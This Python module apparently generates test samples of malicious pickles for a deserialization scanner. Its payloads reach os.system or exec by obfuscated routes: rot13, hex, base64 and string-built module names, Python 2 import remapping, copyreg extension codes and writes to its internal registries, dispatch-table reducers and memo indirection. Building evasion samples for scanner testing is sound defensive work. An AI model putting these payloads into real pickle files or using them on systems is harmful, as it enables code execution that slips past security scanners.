"""Raw pickles whose names are computed by calls, mapped from Python 2, or hidden behind extension codes."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

from .asm import Call, Computed, Get, Global, Memo, Raw, Then, encode, pickled
from .pickle_opcodes import NAMED, SYSTEM
from .sample import Kit, Sample, gadget

G, C = Global, Call


def samples() -> list[Sample]:
    """All of this module."""
    return [*_names(), *_extensions()]


def _names() -> list[Sample]:
    computed: dict[str, tuple[Callable[[], Any], Callable[[], Any]]] = {
        "join": (lambda: C(G("builtins", "str.join"), "", ["o", "s"]), lambda: "system"),
        "rot13": (lambda: C(G("codecs.decode"), "bf", "rot13"), lambda: C(G("codecs.decode"), "flfgrz", "rot13")),
        "hex": (lambda: C(G("_codecs.decode"), C(G("builtins", "bytes.fromhex"), "6f73")), lambda: "system"),
        "bytes-decode": (lambda: C(G("builtins", "bytes.decode"), b"os"), lambda: "system"),
        "add": (lambda: C(G("operator.add"), "o", "s"), lambda: C(G("operator.concat"), "sys", "tem")),
        "replace": (lambda: C(G("builtins", "str.replace"), "xs", "x", "o"), lambda: "system"),
        "reverse": (
            lambda: C(G("builtins", "str.__getitem__"), "so", C(G("builtins.slice"), None, None, -1)),
            lambda: "system",
        ),
        "chr": (lambda: C(G("operator.add"), C(G("builtins.chr"), 111), "s"), lambda: "system"),
        "format": (lambda: C(G("builtins", "str.format"), "{}s", "o"), lambda: "system"),
        "getattr-name": (
            lambda: C(G("builtins.getattr"), C(G("builtins.__import__"), "os"), "__name__"),
            lambda: "system",
        ),
        "attribute-name": (lambda: G("os", "__name__"), lambda: "system"),
        "base64": (lambda: C(G("builtins", "bytes.decode"), C(G("base64.b64decode"), "b3M=")), lambda: "system"),
        "dict-lookup": (lambda: C(G("operator.getitem"), {"a": "os"}, "a"), lambda: "system"),
        "strip": (lambda: C(G("builtins", "str.strip"), " os "), lambda: C(G("builtins", "str.lower"), "SYSTEM")),
    }
    outer = ("STACK_GLOBAL", "computed", *NAMED)
    found = [
        gadget(
            f"computed-name-{name}",
            "STACK_GLOBAL fed by the result of a call",
            lambda k, m=module, a=attribute: C(Computed(m(), a()), k.shell),
            calls=outer,
        )
        for name, (module, attribute) in computed.items()
    ]
    return [
        *found,
        gadget(
            "computed-argument",
            "the code string is computed",
            lambda k: C(G("builtins.exec"), C(G("builtins", "str.join"), "", list(k.code))),
        ),
        gadget(
            "computed-callable",
            "the callable is chosen out of a list by a number",
            lambda k: C(C(G("operator.getitem"), [G("builtins.print"), SYSTEM], 1), k.shell),
            calls=NAMED,
        ),
        gadget(
            "imap-py2",
            "itertools.imap becomes map by fix_imports",
            lambda k: C(G("__builtin__.list"), C(G("itertools.imap"), SYSTEM, [k.shell])),
            protocol=2,
            calls=(*NAMED, "itertools.imap"),
        ),
        gadget(
            "cpickle-py2",
            "cPickle.loads becomes pickle.loads by fix_imports",
            lambda k: C(G("cPickle.loads"), pickled(C(SYSTEM, k.shell), 0)),
            protocol=2,
            calls=("cPickle.loads", "pickle.loads", *NAMED),
        ),
        gadget(
            "urllib2-py2",
            "urllib2.urlopen becomes urllib.request.urlopen",
            lambda k: C(G("urllib2.urlopen"), f"http://127.0.0.1:{k.port}/"),
            protocol=2,
            listens=True,
            calls=("urllib2.urlopen", "urllib.request.urlopen"),
        ),
    ]


def _extensions() -> list[Sample]:
    def registered(opcode: bytes, code: int) -> Callable[[Kit], Any]:
        return lambda k: Then(C(G("copyreg.add_extension"), "os", "system", code), C(Raw(opcode), k.shell))

    named = ("copyreg.add_extension", *NAMED)
    return [
        gadget("ext1", "copyreg.add_extension, then EXT1", registered(b"\x82\xf0", 0xF0), calls=named),
        gadget("ext2", "copyreg.add_extension, then EXT2", registered(b"\x83\x34\x12", 0x1234), calls=named),
        gadget(
            "ext4", "copyreg.add_extension, then EXT4", registered(b"\x84\x78\x56\x34\x12", 0x12345678), calls=named
        ),
        gadget(
            "ext-inverted-registry",
            "SETITEM on copyreg._inverted_registry, then EXT1",
            lambda k: Then(
                Raw(encode(G("copyreg._inverted_registry"), 4) + encode(0xF1, 4) + encode(("os", "system"), 4) + b"s"),
                C(Raw(b"\x82\xf1"), k.shell),
            ),
            calls=("copyreg._inverted_registry", *NAMED),
        ),
        gadget(
            "ext-cache",
            "SETITEM on copyreg._extension_cache, then EXT1",
            lambda k: Then(
                Raw(encode(G("copyreg._extension_cache"), 4) + encode(0xF2, 4) + encode(SYSTEM, 4) + b"s"),
                C(Raw(b"\x82\xf2"), k.shell),
            ),
            calls=("copyreg._extension_cache", *NAMED),
        ),
        gadget(
            "dispatch-table",
            "copyreg.pickle and copy.copy call the registered reducer",
            lambda k: Then(
                C(
                    G("copyreg.pickle"),
                    G("types.SimpleNamespace"),
                    C(G("functools.partial"), G("copy._reconstruct"), None, None, SYSTEM, (k.shell,)),
                ),
                C(G("copy.copy"), C(G("types.SimpleNamespace"))),
            ),
            calls=("copyreg.pickle", *NAMED),
        ),
        gadget(
            "get-of-memo",
            "the callable passes through three memo slots",
            lambda k: Then(Memo(1, SYSTEM), Memo(2, Get(1)), C(Get(2), k.shell)),
            calls=NAMED,
        ),
    ]
